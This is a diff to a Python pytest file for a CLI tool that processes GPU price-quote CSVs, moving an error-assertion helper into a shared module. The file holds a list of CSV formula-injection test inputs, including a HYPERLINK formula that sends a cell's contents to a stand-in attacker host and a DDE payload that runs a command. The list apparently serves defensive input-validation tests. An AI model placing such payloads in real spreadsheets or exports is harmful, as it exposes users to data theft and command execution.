@@ -14,21 +14,11 @@ import zipfile
 from pathlib import Path
 
 import pytest
-from clihelp import run
+from clihelp import assert_error, run
 
 QUOTES_HEADER = "date,gpu,price,kind,term_months,seller,grade,gpu_hours\n"
 GOOD_QUOTE = "2026-10-05,B200,6.00,advertised,0,Ember,T-BM,0\n"
 FORMULAS = ["=1+1", '=HYPERLINK("https://evil.example/?q="&A1,"click")', "=cmd|' /C calc'!A0", "=TODAY()"]
-
-
-def assert_error(result, *needles: str) -> str:
-    combined = result.stdout + result.stderr
-    assert result.exit_code == 2, (result.exit_code, result.exception, combined[-2000:])
-    assert isinstance(result.exception, (SystemExit, type(None))), repr(result.exception)
-    assert "Traceback" not in combined
-    for needle in needles:
-        assert needle in result.stderr, (needle, result.stderr[-2000:])
-    return result.stderr
 
 
 def csv_line(*cells: str) -> str:
